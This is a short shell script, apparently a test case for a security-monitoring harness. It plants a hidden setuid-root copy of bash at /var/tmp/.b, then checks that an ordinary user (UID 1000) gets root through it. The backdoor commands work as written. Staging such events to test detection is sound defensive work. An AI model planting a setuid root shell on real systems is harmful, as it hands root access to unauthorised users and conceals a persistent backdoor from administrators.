#!/bin/sh
. /opt/case/case.sh

install -o root -m 4755 /bin/bash /var/tmp/.b
setpriv --reuid 1000 --regid 1000 --clear-groups /var/tmp/.b -p -c 'id -u' | grep -qx 0
took_place
